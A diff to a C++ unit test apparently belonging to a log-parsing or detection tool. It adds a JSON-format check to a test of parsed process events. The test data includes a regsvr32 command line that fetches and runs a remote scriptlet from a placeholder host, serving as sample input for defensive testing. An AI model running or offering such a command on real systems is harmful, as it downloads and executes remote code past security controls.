@@ -30,6 +30,7 @@ TEST(IoJsonCases, C17ThreeShippersAgree) {
   for (const auto& e : s.events) {
     SCOPED_TRACE(e.line);
     EXPECT_EQ(e.at("EventID"), "1");
+    EXPECT_EQ(e.format, EventFormat::Json);
     EXPECT_EQ(e.at("EventCode"), "1");
     EXPECT_EQ(e.at("Computer"), "WS01");
     EXPECT_EQ(e.at("CommandLine"), "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
